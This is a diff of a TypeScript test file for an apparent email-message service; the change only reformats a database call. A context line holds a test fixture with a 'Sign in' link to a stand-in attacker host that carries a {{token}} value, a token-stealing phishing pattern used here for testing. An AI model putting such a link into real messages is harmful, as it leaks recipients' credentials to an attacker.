@@ -84,9 +84,11 @@ describe('a redirect that a key with the scope auth has allowed', () => {
 describe('the text of a message that a key with the scope auth has written', () => {
   const texts = { html: '<a href="https://evil.example/?t={{token}}">Sign in</a>' };
   const claimed = async () => {
-    const { rows } = await asWorker(server, `select worker.messages_claim($1, 'email', 10) as list`, [
-      tenant.tenant.id,
-    ]);
+    const { rows } = await asWorker(
+      server,
+      `select worker.messages_claim($1, 'email', 10) as list`,
+      [tenant.tenant.id],
+    );
     return Object.fromEntries(
       rows[0].list.map((one: { recipient: string; texts: unknown }) => [one.recipient, one.texts]),
     );
